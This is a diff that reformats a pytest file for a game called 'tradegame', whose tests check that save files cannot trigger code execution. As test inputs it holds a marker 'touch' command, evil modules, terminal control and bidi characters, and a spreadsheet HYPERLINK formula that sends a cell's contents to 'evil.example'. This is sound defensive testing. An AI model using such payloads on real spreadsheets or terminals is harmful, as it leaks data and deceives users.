@@ -82,12 +82,15 @@ def attack(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Attack:
     evil.write_text(EVIL_PY.format(marker=str(markers[1])), encoding="utf-8")
     module = f"tg_evil_{uuid.uuid4().hex[:12]}"  # fresh: never already in sys.modules
     (tmp_path / "mods").mkdir()
-    (tmp_path / "mods" / f"{module}.py").write_text(EVIL_PY.format(marker=str(markers[2])),
-                                                    encoding="utf-8")
+    (tmp_path / "mods" / f"{module}.py").write_text(
+        EVIL_PY.format(marker=str(markers[2])), encoding="utf-8"
+    )
     monkeypatch.syspath_prepend(str(tmp_path / "mods"))
-    seats = {"A": "cmd:touch " + shlex.quote(str(markers[0])),
-             "B": f"{evil}:Evil",
-             "C": f"{module}:Evil"}
+    seats = {
+        "A": "cmd:touch " + shlex.quote(str(markers[0])),
+        "B": f"{evil}:Evil",
+        "C": f"{module}:Evil",
+    }
 
     # A real save of a game in round 2, then its seats edited and the checksum redone.
     text = SMALL.read_text(encoding="utf-8")
@@ -97,8 +100,13 @@ def attack(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Attack:
     folder = tmp_path / "saves"
     folder.mkdir()
     path = folder / "homework.json"
-    save_game(path, game, {"A": "human", "B": "random", "C": "passive"}, scenario_text=text,
-              scenario_name="small.yaml")
+    save_game(
+        path,
+        game,
+        {"A": "human", "B": "random", "C": "passive"},
+        scenario_text=text,
+        scenario_name="small.yaml",
+    )
     doc = json.loads(path.read_text(encoding="utf-8"))
     doc["seats"] = seats
     doc["checksum"] = checksum(doc)
@@ -149,7 +157,8 @@ def test_make_agent_refuses_code_unless_told(attack: Attack) -> None:
 
 
 def test_resume_starts_no_recorded_code_and_says_how_to_run_it(
-        attack: Attack, capsys: pytest.CaptureFixture[str]) -> None:
+    attack: Attack, capsys: pytest.CaptureFixture[str]
+) -> None:
     code, out, err = run(capsys, "resume", str(attack.save), "--no-autosave", "--json")
     assert code == 0, err
     assert_refused_notice(err, attack, f"tradegame resume {attack.save}")
@@ -159,24 +168,35 @@ def test_resume_starts_no_recorded_code_and_says_how_to_run_it(
 
 
 def test_resume_runs_a_bot_the_user_names_again(
-        attack: Attack, capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
+    attack: Attack, capsys: pytest.CaptureFixture[str], tmp_path: Path
+) -> None:
     log = tmp_path / "bot-log.jsonl"
     spec = bot_spec("none", "0", "--log", str(log))
-    code, out, err = run(capsys, "resume", str(attack.save), "--no-autosave", "--json",
-                         "--seat", f"A={spec}", "--time-limit", "20")
+    code, out, err = run(
+        capsys,
+        "resume",
+        str(attack.save),
+        "--no-autosave",
+        "--json",
+        "--seat",
+        f"A={spec}",
+        "--time-limit",
+        "20",
+    )
     assert code == 0, err
     messages = [json.loads(line) for line in log.read_text(encoding="utf-8").splitlines()]
     assert messages[0]["type"] == "start" and messages[-1]["type"] == "end"
     assert any(m["type"] == "turn" and m["player"] == "A" for m in messages)
     result = json.loads(out)
     assert result["seats"]["A"] == spec and result["incidents"] == []
-    assert "A's seat is recorded" not in err        # A was named again: no notice for it
+    assert "A's seat is recorded" not in err  # A was named again: no notice for it
     assert "B's seat is recorded" in err and "C's seat is recorded" in err
     assert attack.ran() == []
 
 
 def test_a_seat_with_control_characters_is_refused_or_shown_escaped(
-        attack: Attack, capsys: pytest.CaptureFixture[str]) -> None:
+    attack: Attack, capsys: pytest.CaptureFixture[str]
+) -> None:
     seat = "cmd:\x9b2J\u202eevil"  # CSI and a bidi override: never obeyed by the terminal
     notice = refused_seat_notice("A", seat, "tradegame resume g.json")
     assert "\x9b" not in notice and "\u202e" not in notice
@@ -193,8 +213,8 @@ def test_a_seat_with_control_characters_is_refused_or_shown_escaped(
 
 @pytest.mark.parametrize("command", ["replay", "report", "grades", "rollback"])
 def test_commands_that_read_a_save_show_its_seats_and_run_nothing(
-        attack: Attack, capsys: pytest.CaptureFixture[str], tmp_path: Path,
-        command: str) -> None:
+    attack: Attack, capsys: pytest.CaptureFixture[str], tmp_path: Path, command: str
+) -> None:
     argv = [command, str(attack.save)]
     if command == "rollback":
         argv += ["--round", "1", "--out", str(tmp_path / "rolled.json")]
@@ -221,10 +241,19 @@ def test_commands_that_read_a_save_show_its_seats_and_run_nothing(
 
 def screen_text(app: Any) -> str:
     width, height = app.size
-    console = Console(width=width, height=height, file=io.StringIO(), force_terminal=True,
-                      record=True, legacy_windows=False)
-    console.print(app.screen._compositor.render_update(
-        full=True, screen_stack=app._background_screens, simplify=True))
+    console = Console(
+        width=width,
+        height=height,
+        file=io.StringIO(),
+        force_terminal=True,
+        record=True,
+        legacy_windows=False,
+    )
+    console.print(
+        app.screen._compositor.render_update(
+            full=True, screen_stack=app._background_screens, simplify=True
+        )
+    )
     return console.export_text(styles=False)
 
 
@@ -285,8 +314,9 @@ def test_play_save_with_seat_runs_the_bot_named_again(attack: Attack) -> None:
     from tradegame.commands.play import build_options
 
     spec = bot_spec("none", "0")
-    args = argparse.Namespace(scenario=str(attack.save), seat=[f"A={spec}"], seed=None,
-                              instructor=False)
+    args = argparse.Namespace(
+        scenario=str(attack.save), seat=[f"A={spec}"], seed=None, instructor=False
+    )
     match: Any = build_options(args).match  # type: ignore[attr-defined]
     try:
         assert match.seats == {"A": spec, "B": "passive", "C": "passive"}
@@ -301,9 +331,17 @@ async def test_the_new_game_screen_in_a_browser_refuses_code_seats(attack: Attac
     from tradegame.ui.app import Options, TradeGameApp
     from tradegame.ui.screens.dialogs import MessageDialog
 
-    app = TradeGameApp(Options(scenario=str(SMALL), seats=dict(attack.seats), seed=3,
-                               save_dir=attack.folder, ai_delay=0.0, spectate_delay=0.0,
-                               web=True))
+    app = TradeGameApp(
+        Options(
+            scenario=str(SMALL),
+            seats=dict(attack.seats),
+            seed=3,
+            save_dir=attack.folder,
+            ai_delay=0.0,
+            spectate_delay=0.0,
+            web=True,
+        )
+    )
     app.animation_level = "none"
     async with app.run_test(size=(110, 36)) as pilot:
         await wait_until(pilot, lambda: len(app.screen.query(".seat")) == 3, "the seats")
@@ -323,9 +361,16 @@ async def test_the_new_game_screen_in_a_terminal_still_runs_a_bot(attack: Attack
     from tradegame.ui.screens.game import GameScreen
 
     spec = bot_spec("none", "0")
-    app = TradeGameApp(Options(scenario=str(SMALL), seats={"A": spec, "B": "human",
-                                                           "C": "passive"}, seed=3,
-                               save_dir=attack.folder, ai_delay=0.0, spectate_delay=0.0))
+    app = TradeGameApp(
+        Options(
+            scenario=str(SMALL),
+            seats={"A": spec, "B": "human", "C": "passive"},
+            seed=3,
+            save_dir=attack.folder,
+            ai_delay=0.0,
+            spectate_delay=0.0,
+        )
+    )
     app.animation_level = "none"
     async with app.run_test(size=(110, 36)) as pilot:
         await wait_until(pilot, lambda: len(app.screen.query(".seat")) == 3, "the seats")
@@ -335,14 +380,20 @@ async def test_the_new_game_screen_in_a_terminal_still_runs_a_bot(attack: Attack
 
 
 def test_grades_cells_from_a_save_are_never_spreadsheet_formulas(
-        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
     """A seat is free text in a save; opened in a spreadsheet, '=...' would be a formula."""
     text = SMALL.read_text(encoding="utf-8")
     game = Game.new(rules_from_text(text, str(SMALL)), 5)
     path = tmp_path / "team.json"
     formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
-    save_game(path, game, {"A": formula, "B": "@SUM(1+1)", "C": "passive"}, scenario_text=text,
-              scenario_name="small.yaml")
+    save_game(
+        path,
+        game,
+        {"A": formula, "B": "@SUM(1+1)", "C": "passive"},
+        scenario_text=text,
+        scenario_name="small.yaml",
+    )
     code, out, _ = run(capsys, "grades", str(path), "--include-unfinished")
     assert code == 0
     column = out.splitlines()[0].split(",").index("seat")
